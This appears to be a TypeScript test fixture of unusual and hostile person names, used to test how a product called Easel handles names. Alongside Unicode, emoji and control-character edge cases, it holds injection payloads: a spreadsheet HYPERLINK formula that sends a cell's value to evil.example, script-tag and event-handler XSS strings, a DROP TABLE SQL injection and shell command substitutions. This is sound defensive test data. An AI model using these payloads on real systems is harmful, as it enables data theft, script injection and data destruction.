/** Unusual and malicious names of people, for tests of lists with many different names. */

const LONG = 'Wolfeschlegelsteinhausenbergerdorff '.repeat(278).trim();

const FORMULAS = [
  ...'=1+1|@SUM(A1:A9)|+49 151 Ada|-2+3|=HYPERLINK("http://evil.example/?"&A1,"Ada")'.split('|'),
  ...'＝1+1|＋1|－1|＠A1|−2|\'=1+1|\u200b=1+1|\u00a0=1+1|"=1+1"'.split('|'),
];

const MARKUP = [
  ...'<script>document.title="taken"</script>|<img src=x onerror="document.title=1">'.split('|'),
  ...'</figcaption></figure></section><h1>Ada</h1>|&amp;|"><script>1</script>'.split('|'),
  ..."' onmouseover='alert(1)|`id`|$(id)|{link}|%n%s%x|Robert'); DROP TABLE jobs;--|\\n|a\\\"b".split('|'),
];

const SCRIPTS = [
  ...'عائشة بنت أبي بكر|נועה לוי|ישראל (Israel) כהן 3|\u200fعمر\u200f 2|王小明|นาย สมชาย ใจดี'.split('|'),
  ...'सीता शर्मा|Nguyễn Thị Ánh|Çağrı Işık|İpek|ıpek|Weiß|WEISS|ǅemal|Z̸̡̛a̶l̵g̷o̴'.split('|'),
  'e\u0301\u0301\u0301\u0301',
];

const EMOJI = [
  ...'👩‍🏫 Frau Müller|❤️|❤|\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'.split('|'),
  '🫠'.repeat(30),
];

/** Names that differ only in case, normalization or invisible characters. They still belong to different people. */
const ALIKE = 'Ada|ada|ADA|Zoe\u0308|Zoë 2|ﬁona|fiona|Ａda|Аda|Ada\u200d|Ada.'.split('|');

const WRITTEN = [
  ...'Lovelace, Ada|Lovelace; Ada|"Ada"|Ada "the first"|null|true|007|2026-11-24|Name 1|.|-|A'.split('|'),
  LONG.slice(0, 80),
  LONG.slice(0, 81),
  LONG.slice(0, 10_000),
  '𝄞'.repeat(60),
];

export const HOSTILE_NAMES: readonly string[] = [
  ...FORMULAS,
  ...MARKUP,
  ...SCRIPTS,
  ...EMOJI,
  ...ALIKE,
  ...WRITTEN,
];

/** Names with control characters, each with the name that Easel shows instead. */
export const WITH_CONTROLS = [
  ['Ada\0Lovelace', 'Ada Lovelace'],
  ['\u0007Bell\u0008', 'Bell'],
  ['Grace\u001b[31mRed', 'Grace [31mRed'],
  ['Alan\u0085Turing', 'Alan Turing'],
  ['half \ud83d', 'half \ufffd'],
  ['Ada \u202elevaL\u202c Lovelace', 'Ada levaL Lovelace'],
  ['Ada\u2028Grace', 'Ada Grace'],
  ['\u2066Zoe\u2069\u2029', 'Zoe'],
] as const;
